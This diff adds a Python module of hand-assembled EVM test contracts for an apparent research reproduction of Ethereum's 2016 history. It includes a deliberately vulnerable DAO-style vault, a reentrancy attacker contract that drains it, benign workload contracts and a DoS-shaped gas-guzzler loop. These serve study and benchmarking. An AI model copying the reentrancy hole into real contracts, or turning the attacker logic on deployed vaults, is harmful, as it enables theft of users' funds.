@@ -1,0 +1,225 @@
+"""Scenario contract library.
+
+These hand-assembled contracts exercise the EVM in the ways the paper's
+history requires:
+
+* :func:`vulnerable_bank_code` is a DAO-style deposit/withdraw vault whose
+  ``withdraw`` sends ether *before* zeroing the caller's balance — the
+  reentrancy pattern the June 2016 attacker exploited for ~$50M
+  (Section 2.1).
+* :func:`reentrancy_attacker_code` is the exploit: its fallback function
+  re-enters ``withdraw`` while the vault's bookkeeping still shows a
+  balance.
+* :func:`counter_code` and :func:`ledger_code` are benign workhorses used
+  by the transaction-mix workload (Figure 2's contract-call fraction).
+* :func:`gas_guzzler_code` loops over cheap state-reading opcodes — the
+  shape of the autumn-2016 DoS contracts whose repricing caused the hard
+  forks compared in Section 2.1 (86 vs 3,583 orphaned blocks).
+
+Contracts are deployed through init code built by :func:`deploy_wrapper`,
+which returns the body code at construction like real deployment bytecode.
+"""
+
+from __future__ import annotations
+
+from ..chain.types import Address
+from .opcodes import assemble
+
+__all__ = [
+    "SEL_DEPOSIT",
+    "SEL_WITHDRAW",
+    "SEL_ATTACK",
+    "SEL_INCREMENT",
+    "SEL_TRANSFER",
+    "deploy_wrapper",
+    "vulnerable_bank_code",
+    "reentrancy_attacker_code",
+    "counter_code",
+    "ledger_code",
+    "gas_guzzler_code",
+]
+
+#: Whole-word call selectors (see :mod:`repro.evm.abi`).
+SEL_DEPOSIT = 1
+SEL_WITHDRAW = 2
+SEL_ATTACK = 1
+SEL_INCREMENT = 1
+SEL_TRANSFER = 1
+
+
+def deploy_wrapper(body: bytes) -> bytes:
+    """Init code that returns ``body`` as the deployed contract.
+
+    Layout: ``[copier][body]``; the copier CODECOPYs the body into memory
+    and RETURNs it, exactly like compiler-emitted deployment bytecode.
+    """
+    # The copier below is 11 bytes: PUSH2 len, PUSH2 off, PUSH1 0,
+    # CODECOPY, PUSH2 len, PUSH1 0, RETURN -- but assembling with labels is
+    # clearer; compute the prologue size after assembly by fixed-point.
+    prologue_size = 0
+    while True:
+        prologue = assemble(
+            f"""
+            PUSH2 {len(body)} PUSH2 {prologue_size} PUSH1 0 CODECOPY
+            PUSH2 {len(body)} PUSH1 0 RETURN
+            """
+        )
+        if len(prologue) == prologue_size:
+            return prologue + body
+        prologue_size = len(prologue)
+
+
+def vulnerable_bank_code() -> bytes:
+    """The DAO-style vault.
+
+    * selector 1 (``deposit``): ``balances[caller] += callvalue`` — the
+      caller's address doubles as the storage slot.
+    * selector 2 (``withdraw``): sends the caller's full balance via a
+      value CALL that forwards all remaining gas, **then** zeroes the
+      balance.  A contract caller can re-enter during the send.
+    * empty calldata (fallback): accepts plain ether transfers.
+    """
+    return assemble(
+        """
+        CALLDATASIZE ISZERO @fallback JUMPI
+        PUSH1 0 CALLDATALOAD
+        DUP1 1 EQ @deposit JUMPI
+        DUP1 2 EQ @withdraw JUMPI
+        STOP
+
+        deposit:
+            POP
+            CALLER SLOAD CALLVALUE ADD CALLER SSTORE
+            STOP
+
+        withdraw:
+            POP
+            ; CALL(gas, caller, balances[caller], 0, 0, 0, 0)
+            0 0 0 0
+            CALLER SLOAD
+            CALLER
+            GAS
+            CALL
+            POP
+            ; zero the balance only AFTER the send -- the reentrancy bug
+            0 CALLER SSTORE
+            STOP
+
+        fallback:
+            STOP
+        """
+    )
+
+
+def reentrancy_attacker_code(
+    bank: Address, max_reentries: int = 3
+) -> bytes:
+    """The exploit contract targeting a :func:`vulnerable_bank_code` vault.
+
+    * selector 1 (``attack``): deposits the attached ether into the bank,
+      then triggers ``withdraw``.
+    * fallback: invoked when the bank sends ether mid-``withdraw``;
+      re-enters ``withdraw`` until ``max_reentries`` nested claims have
+      been made.  Each re-entry drains one extra multiple of the deposit.
+
+    Storage layout: slot 0 = re-entry counter.
+    """
+    bank_word = int.from_bytes(bank, "big")
+    return assemble(
+        f"""
+        CALLDATASIZE ISZERO @fallback JUMPI
+        PUSH1 0 CALLDATALOAD
+        1 EQ @attack JUMPI
+        STOP
+
+        attack:
+            ; bank.deposit{{value: callvalue}}()
+            1 PUSH1 0 MSTORE
+            0 0 32 0 CALLVALUE PUSH20 {bank_word:#x} GAS CALL POP
+            ; reset the re-entry counter, then bank.withdraw()
+            0 PUSH1 0 SSTORE
+            2 PUSH1 0 MSTORE
+            0 0 32 0 0 PUSH20 {bank_word:#x} GAS CALL POP
+            STOP
+
+        fallback:
+            ; receiving ether from the bank: re-enter withdraw while the
+            ; counter is below the bound (push order makes LT compute
+            ; counter < max_reentries)
+            {max_reentries} PUSH1 0 SLOAD LT ISZERO @done JUMPI
+            PUSH1 0 SLOAD 1 ADD PUSH1 0 SSTORE
+            2 PUSH1 0 MSTORE
+            0 0 32 0 0 PUSH20 {bank_word:#x} GAS CALL POP
+            STOP
+
+        done:
+            STOP
+        """
+    )
+
+
+def counter_code() -> bytes:
+    """Increment storage slot 0 on every call (benign contract workload)."""
+    return assemble(
+        """
+        PUSH1 0 SLOAD 1 ADD PUSH1 0 SSTORE
+        STOP
+        """
+    )
+
+
+def ledger_code() -> bytes:
+    """A toy token: selector 1 transfers ``amount`` to ``to``.
+
+    calldata: [selector=1][to: word][amount: word].  Balances are keyed by
+    address-as-slot.  Credits are unchecked mints when the caller lacks
+    funds, which keeps workload generation simple while still producing
+    storage-heavy contract calls.
+    """
+    return assemble(
+        """
+        CALLDATASIZE ISZERO @done JUMPI
+        PUSH1 0 CALLDATALOAD 1 EQ ISZERO @done JUMPI
+        ; amount = calldata[2], to = calldata[1]
+        PUSH1 64 CALLDATALOAD                 ; amount
+        ; debit caller if funded (no underflow: skip debit when short)
+        DUP1 CALLER SLOAD LT @credit JUMPI    ; if balance < amount skip debit
+        CALLER SLOAD DUP2 SWAP1 SUB CALLER SSTORE
+
+        credit:
+            ; balances[to] += amount
+            PUSH1 32 CALLDATALOAD SLOAD ADD
+            PUSH1 32 CALLDATALOAD SSTORE
+            STOP
+
+        done:
+            STOP
+        """
+    )
+
+
+def gas_guzzler_code(iterations: int = 200) -> bytes:
+    """A DoS-shaped contract: a loop of underpriced state-reading opcodes.
+
+    Before EIP-150, EXTCODESIZE cost 20 gas, so a cheap transaction could
+    force thousands of disk-touching reads; after repricing (700 gas) the
+    same loop exhausts its gas budget ~35x sooner.  The ablation benchmark
+    runs this contract under both schedules to reproduce the economics that
+    forced the November 2016 / January 2017 forks.
+    """
+    return assemble(
+        f"""
+        ; slot 0 counts completed iterations (observable progress)
+        0
+        loop:
+            DUP1 {iterations} EQ @done JUMPI
+            CALLER EXTCODESIZE POP     ; the underpriced state read
+            CALLER BALANCE POP
+            1 ADD
+            @loop JUMP
+
+        done:
+            PUSH1 0 SSTORE
+            STOP
+        """
+    )
